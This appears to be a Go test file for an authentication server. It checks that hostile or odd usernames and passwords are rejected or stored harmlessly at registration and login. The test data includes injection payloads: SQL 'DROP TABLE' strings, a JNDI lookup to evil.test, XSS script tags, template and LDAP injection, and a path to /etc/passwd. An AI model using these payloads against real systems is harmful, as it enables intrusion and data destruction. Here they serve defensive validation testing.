package server_test

import (
	"encoding/json"
	"net/http"
	"strings"
	"testing"

	"github.com/authctl/authctl/authn"
)

// TestHostileIdentifiersAndPasswords sends unusual and hostile names and passwords. The rules
// have their tests in authn. Here both databases must store what the rules accept, and no
// input may cause a 500.
func TestHostileIdentifiersAndPasswords(t *testing.T) {
	t.Parallel()
	onBoth(t, func(t *testing.T, start func(...func(*setup)) *fixture) {
		f := start(func(s *setup) { s.authn.Blocklist = authn.EmbeddedBlocklist() })
		for name, story := range map[string]func(*testing.T, *fixture){
			"names that are refused":              namesThatAreRefused,
			"names that are plain data":           namesThatAreData,
			"twins of a name":                     twinsOfAName,
			"twins of a password":                 twinsOfAPassword,
			"passwords that are plain data":       passwordsThatAreData,
			"passwords that anyone would guess":   passwordsThatAreGuessed,
			"a name or a password with U+0000":    nulls,
			"a name as a list is no name":         listsForNames,
			"a password given as the user's name": passwordsAsNames,
		} {
			t.Run(name, func(t *testing.T) { story(t, f) })
		}
	})
}

func (f *fixture) register(username, password string) answer {
	f.t.Helper()
	return f.send(request{method: "POST", path: "/register", body: account(username, password)})
}

func (f *fixture) login(username, password string) answer {
	f.t.Helper()
	return f.send(request{method: "POST", path: "/login", body: account(username, password)})
}

func namesThatAreRefused(t *testing.T, f *fixture) {
	for row, name := range map[string]string{
		"nothing":                "",
		"65 code points":         strings.Repeat("x", 65),
		"320 characters":         strings.Repeat("x", 308) + "@example.com",
		"7,000 characters":       strings.Repeat("x", 7000),
		"leading space":          " alice",
		"trailing space":         "alice ",
		"a tab":                  "al\tice",
		"no-break space":         "alice\u00a0",
		"zero width space":       "al\u200bice",
		"zero width joiner":      "al\u200dice",
		"byte order mark":        "\ufeffalice",
		"right-to-left override": "\u202ealice",
		"soft hyphen":            "al\u00adice",
		"CR":                     "alice\r",
		"LF":                     "alice\n{\"level\":\"fatal\"}",
		"ESC":                    "al\x1b[31mice",
		"U+2028":                 "al\u2028ice",
		"a ligature":             "ﬁona",
		"a header":               "a@b\r\nBcc:",
		"quoted local part":      `"a b"@example.com`,
		"SQL":                    "' OR 1=1 --",
		"SQL, stacked":           "x'; DROP TABLE users; --",
		"a percent sign":         "%",
		"one dot":                ".",
		"two dots":               "..",
		"a dash":                 "-",
		"a flag":                 "--yes",
		"null":                   "null",
		"undefined":              "undefined",
		"an operator":            "Admin",
		"root, in full width":    "ｒｏｏｔ",
		"the service itself":     "authctl",
	} {
		t.Run(row, func(t *testing.T) {
			hashes := f.svc.HashStats().Run
			f.register(name, password).want(t, http.StatusUnprocessableEntity, authn.CodeInvalidUsername)
			if got := f.svc.HashStats().Run - hashes; got != 0 {
				t.Errorf("%d hashes were computed for it", got)
			}
			f.login(name, password).want(t, http.StatusUnauthorized, authn.CodeInvalidCredentials)
		})
	}
}

func namesThatAreData(t *testing.T, f *fixture) {
	for row, name := range map[string]string{
		"SQL without spaces":     "'OR/**/1=1--",
		"printf":                 "%s%n%x",
		"JNDI":                   "${jndi:ldap://evil.test/x}",
		"a template":             "{{7*7}}",
		"LDAP":                   "*)(uid=*",
		"an operator of NoSQL":   `{"$gt":""}`,
		"a path":                 "../../etc/passwd",
		"a tag":                  "<script>alert(1)</script>",
		"two at signs":           "a@evil@corp",
		"an address":             "Bob+tag@Example.COM",
		"a comment":              "a(b)@c",
		"an IP literal":          "a@[127.0.0.1]",
		"punycode":               "a@xn--80ak6aa92e.com",
		"a trailing dot":         "a@example.com.",
		"dotless i":              "\u0131rmak",
		"64 of four bytes each":  strings.Repeat("𠀋", 64),
		"a backslash and quotes": `a\"b'c` + "`d",
	} {
		t.Run(row, func(t *testing.T) {
			b := f.browser()
			b.post("/register", account(name, password)).want(t, http.StatusCreated)
			b.post("/login", account(name, password)).want(t, http.StatusOK)
			var user struct{ Username string }
			if err := json.Unmarshal(b.get("/profile").want(t, http.StatusOK).body, &user); err != nil || user.Username != name {
				t.Errorf("the profile says %q, %v; want %q", user.Username, err, name)
			}
			b.get("/verify").want(t, http.StatusOK)
			b.post("/refresh", "").want(t, http.StatusOK)
			f.login(name+"x", password).want(t, http.StatusUnauthorized, authn.CodeInvalidCredentials)
		})
	}
}

// twinsOfAName: spellings that look the same, or that the PRECIS profile maps to one name, are
// one account.
func twinsOfAName(t *testing.T, f *fixture) {
	f.register("Alice", password).want(t, http.StatusCreated)
	f.register("zoe\u0308", password).want(t, http.StatusCreated)
	f.register("kelvin@shop", password).want(t, http.StatusCreated)
	for row, name := range map[string]string{
		"lower case":           "alice",
		"upper case":           "ALICE",
		"full width":           "ａｌｉｃｅ",
		"the composed form":    "zo\u00eb",
		"the Kelvin sign":      "\u212aelvin@shop",
		"a full-width at sign": "kelvin＠shop",
	} {
		t.Run(row, func(t *testing.T) {
			f.register(name, password).want(t, http.StatusConflict, authn.CodeUsernameTaken)
			f.login(name, password).want(t, http.StatusOK)
		})
	}
	f.register("strasse", password).want(t, http.StatusCreated)
	f.register("istanbul", password).want(t, http.StatusCreated)
	for row, name := range map[string]string{"sharp s": "stra\u00dfe", "dotted I": "\u0130stanbul", "dotless i": "\u0131stanbul"} {
		t.Run(row+" is another name", func(t *testing.T) {
			f.login(name, password).want(t, http.StatusUnauthorized, authn.CodeInvalidCredentials)
		})
	}
}

func twinsOfAPassword(t *testing.T, f *fixture) {
	f.register("composed", "caf\u00e9 au lait").want(t, http.StatusCreated)
	f.login("composed", "cafe\u0301 au lait").want(t, http.StatusOK)
	f.register("exact", "ﬁne ①s \u00a0Aboard").want(t, http.StatusCreated)
	for row, twin := range map[string]string{
		"no ligature":    "fine ①s \u00a0Aboard",
		"no circle":      "ﬁne 1s \u00a0Aboard",
		"another space":  "ﬁne ①s  Aboard",
		"another case":   "ﬁne ①s \u00a0aboard",
		"a space before": " ﬁne ①s \u00a0Aboard",
		"a space after":  "ﬁne ①s \u00a0Aboard ",
	} {
		t.Run(row, func(t *testing.T) {
			f.login("exact", twin).want(t, http.StatusUnauthorized, authn.CodeInvalidCredentials)
		})
	}
	f.login("exact", "ﬁne ①s \u00a0Aboard").want(t, http.StatusOK)
}

func passwordsThatAreData(t *testing.T, f *fixture) {
	for row, password := range map[string]string{
		"emoji":            "🦊🌵🎻🪐🧊🍄🪁🧭",
		"spaces and words": "   spaces   around   ",
		"combining marks":  "e\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308",
		"SQL":              "' OR 1=1; DROP TABLE users; --",
		"printf":           "%s%n%s%n%x%d",
		"JNDI":             "${jndi:ldap://evil.test/x}",
		"control":          "tab\tline\nescape\x1b[31m",
		"line separator":   "one\u2028two three",
		"a tag":            "<script>alert(1)</script>",
		"a PHC string":     "$argon2id$v=19$m=64,t=1,p=1$AAAA$BBBB",
	} {
		t.Run(row, func(t *testing.T) {
			name := "data-" + strings.ReplaceAll(row, " ", "-")
			f.register(name, password).want(t, http.StatusCreated)
			f.login(name, password).want(t, http.StatusOK)
			f.login(name, password+"!").want(t, http.StatusUnauthorized, authn.CodeInvalidCredentials)
		})
	}
}

func passwordsThatAreGuessed(t *testing.T, f *fixture) {
	for row, password := range map[string]string{
		"the name":          "jonathan.smith",
		"the name, more":    "Jonathan.Smith!!",
		"the service":       "authctlauthctl",
		"a common one":      "password1",
		"twice the same":    "passwordpassword",
		"only spaces":       "          ",
		"one letter":        "aaaaaaaaaaaa",
		"seven code points": "🦊🌵🎻🪐🧊🍄🪁",
	} {
		t.Run(row, func(t *testing.T) {
			f.register("jonathan.smith", password).want(t, http.StatusUnprocessableEntity, authn.CodeWeakPassword)
		})
	}
}

func nulls(t *testing.T, f *fixture) {
	for row, body := range map[string]string{"a name": account("al\x00ice", password), "a password": account("bob", "a pass\x00word")} {
		t.Run(row, func(t *testing.T) {
			for _, path := range []string{"/register", "/login"} {
				f.send(request{method: "POST", path: path, body: body}).want(t, http.StatusBadRequest, authn.CodeInvalidRequest)
			}
		})
	}
}

func listsForNames(t *testing.T, f *fixture) {
	for _, path := range []string{"/register", "/login"} {
		f.send(request{method: "POST", path: path, body: `{"username":["alice"],"password":"x"}`}).want(t, http.StatusBadRequest, authn.CodeInvalidRequest)
	}
}

// passwordsAsNames: a password that somebody types into the name field must not appear in a
// log.
func passwordsAsNames(t *testing.T, f *fixture) {
	f.noteSecret("hunter2hunter3-in-the-wrong-field")
	f.login("hunter2hunter3-in-the-wrong-field", password).want(t, http.StatusUnauthorized, authn.CodeInvalidCredentials)
}
